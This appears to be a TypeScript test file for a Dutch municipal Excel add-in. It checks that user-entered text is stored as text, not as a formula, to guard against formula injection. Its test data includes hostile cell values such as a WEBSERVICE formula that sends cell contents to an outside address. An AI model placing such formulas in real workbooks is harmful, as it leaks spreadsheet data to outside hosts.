/**
 * Issue 17 case 17: text a user types is written as text. Excel reads a written value that starts
 * with "=", "+" or "-" as a formula (Office.js reference, Range.values) unless the cell's number
 * format is text; the fake Excel (the preview's simulated Excel) does the same, so these tests
 * would see a reason "- akkoord wethouder" turned into a broken formula, or "=WEBSERVICE(…)" into
 * a live one.
 */
import { STEDENDRIEHOEK_2024 } from "../../src/data";
import { scenarioRequest } from "./gatewayFixtures";
import type { MonitorSheetRequest } from "../../src/excel/types";
import type { WorkbookGateway } from "../../src/excel/gateway";
import { textCellsOf } from "../../src/excel/textCells";
import { installFakeExcel } from "../fake-excel/fakeExcel";
import { WorkbookModel, enteredCell } from "../fake-excel/model";

let model: WorkbookModel;
let gateway: WorkbookGateway;

beforeEach(async () => {
  model = installFakeExcel(globalThis as unknown as Record<string, unknown>, new WorkbookModel(["Blad1"]));
  const { createExcelGateway } = await import("../../src/excel/gateway");
  gateway = createExcelGateway();
});

const HOSTILE = ["- akkoord wethouder", '=WEBSERVICE("https://example.org/?"&A1)', "+31 55 123", "-Epe"];
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- the test stands in for Office's untyped global
const target = globalThis as unknown as { Excel: { run<T>(batch: (context: any) => Promise<T>): Promise<T> } };

const cellAt = (sheet: string, row: number, column: number) => model.sheet(sheet)!.get(row, column);

describe("17.17 the fake Excel enters written values as Excel does", () => {
  test("17.17 enteredCell: =, + and - make a formula; a number, a lone sign and a text-formatted cell stay values", () => {
    expect(enteredCell("- akkoord wethouder", false)).toEqual({ value: "", formula: "=- akkoord wethouder" });
    expect(enteredCell("+31 55", false)).toEqual({ value: "", formula: "=+31 55" });
    expect(enteredCell("=WEBSERVICE(A1)", false)).toEqual({ value: "", formula: "=WEBSERVICE(A1)" });
    expect(enteredCell("-20", false)).toEqual({ value: "-20" });
    expect(enteredCell("-", false)).toEqual({ value: "-" });
    expect(enteredCell("akkoord", false)).toEqual({ value: "akkoord" });
    for (const text of HOSTILE) expect(enteredCell(text, true)).toEqual({ value: text });
  });

  test("17.17 Range.values: a formula in a General cell, the text itself in a cell formatted '@' first", async () => {
    await target.Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem("Blad1");
      sheet.getRange("A1:B1").values = [["- akkoord wethouder", "=WEBSERVICE(A1)"]];
      sheet.getRange("A2:B2").numberFormat = [["@", "@"]];
      sheet.getRange("A2:B2").values = [["- akkoord wethouder", "=WEBSERVICE(A1)"]];
      await context.sync();
    });
    expect(cellAt("Blad1", 0, 0)?.formula).toBe("=- akkoord wethouder");
    expect(cellAt("Blad1", 0, 1)?.formula).toBe("=WEBSERVICE(A1)");
    expect(cellAt("Blad1", 1, 0)).toEqual({ value: "- akkoord wethouder" });
    expect(cellAt("Blad1", 1, 1)).toEqual({ value: "=WEBSERVICE(A1)" });
  });

  test("17.17 textCellsOf: +/- strings of a plan, and user texts whatever they start with; formulas and numbers not", () => {
    expect(
      textCellsOf(
        [
          ["=SUM(A1:A3)", "- akkoord"],
          ["=x", 3],
          ["-5x", "plain"],
        ],
        ["=x"],
        "B2",
      ),
    ).toEqual(["C2", "B3", "B4"]);
  });
});

describe("17.17 user text stays text in every sheet the add-in writes", () => {
  test("17.17 Correcties: reason, 'besloten door', name and date stay text — in a new table and in appended lines", async () => {
    const line = (reason: string, decidedBy: string) => ({ name: "Apeldoorn", amount: -20, reason, decidedBy, date: "12-03-2026" });
    await gateway.appendCorrections([line("- akkoord wethouder", '=WEBSERVICE("https://example.org")')]);
    await gateway.appendCorrections([line('=WEBSERVICE("https://example.org")', "- akkoord wethouder"), line("+ extra", "-PHO")]);
    for (let row = 1; row <= 3; row++)
      for (let column = 0; column < 5; column++) expect(cellAt("Correcties", row, column)?.formula).toBeUndefined();
    expect(cellAt("Correcties", 1, 2)?.value).toBe("- akkoord wethouder");
    expect(cellAt("Correcties", 2, 2)?.value).toBe('=WEBSERVICE("https://example.org")');
    expect(cellAt("Correcties", 3, 3)?.value).toBe("-PHO");
    expect(cellAt("Correcties", 2, 1)?.value).toBe(-20); // the amount stays a number
    const read = await gateway.readCorrections();
    expect(read.map((l) => [l.reason, l.decidedBy])).toEqual([
      ["- akkoord wethouder", '=WEBSERVICE("https://example.org")'],
      ['=WEBSERVICE("https://example.org")', "- akkoord wethouder"],
      ["+ extra", "-PHO"],
    ]);
  });

  test("17.17 municipality names and the region name: text in the Gemeenten table and on the Monitor", async () => {
    const names = ["-Epe", '=HYPERLINK("x")', ...STEDENDRIEHOEK_2024.municipalities.slice(2).map((m) => m.name)];
    const dataset = {
      ...STEDENDRIEHOEK_2024,
      region: "- Regio Oost",
      municipalities: STEDENDRIEHOEK_2024.municipalities.map((m, i) => ({ ...m, name: names[i] })),
    };
    await gateway.writeMunicipalityTable(dataset);
    expect(cellAt("Gemeenten", 1, 0)).toEqual({ value: "-Epe" });
    expect(cellAt("Gemeenten", 2, 0)).toEqual({ value: '=HYPERLINK("x")' });
    const monitor: MonitorSheetRequest = {
      sheetName: "Monitor",
      region: "- Regio Oost",
      target: { kind: "fixed", names, values: names.map(() => 10) },
      startYear: 2025,
      endYear: 2027,
      allowCredit: false,
      thresholds: { onTrack: 0.9, behind: 0.75 },
      language: "nl",
      replaceOwnSheet: false,
    };
    await gateway.writeMonitorSheet(monitor);
    const cells = [...model.sheet("Monitor")!.cells.values()];
    for (const name of names.slice(0, 2)) {
      expect(cells.some((c) => c.value === name && !c.formula)).toBe(true);
      expect(cells.some((c) => c.formula === name || c.formula === `=${name}`)).toBe(false);
    }
    const read = await gateway.readMonitor("Monitor");
    expect(read.names.slice(0, 2)).toEqual(["-Epe", '=HYPERLINK("x")']);
  });

  test("17.17 the values copy copies a shown text '- …' or '=…' as text, not as a formula", async () => {
    await gateway.writeMunicipalityTable(STEDENDRIEHOEK_2024);
    await gateway.writeScenarioSheet(scenarioRequest());
    // as Excel would show the names looked up from a table holding such text
    model.sheet("Verdeling 2024")!.set(12, 0, { value: "- akkoord wethouder", formula: "=Gemeenten[Gemeente]" });
    model.sheet("Verdeling 2024")!.set(13, 0, { value: "=WEBSERVICE(A1)", formula: "=Gemeenten[Gemeente]" });
    const copy = await gateway.writeValuesCopy({ sheetName: "Verdeling 2024", date: "26 november 2026", language: "nl" });
    const shown = [...model.sheet(copy.sheetName)!.cells.values()];
    expect(shown.some((c) => c.formula !== undefined)).toBe(false);
    expect(shown.some((c) => c.value === "- akkoord wethouder")).toBe(true);
    expect(shown.some((c) => c.value === "=WEBSERVICE(A1)")).toBe(true);
  });
});
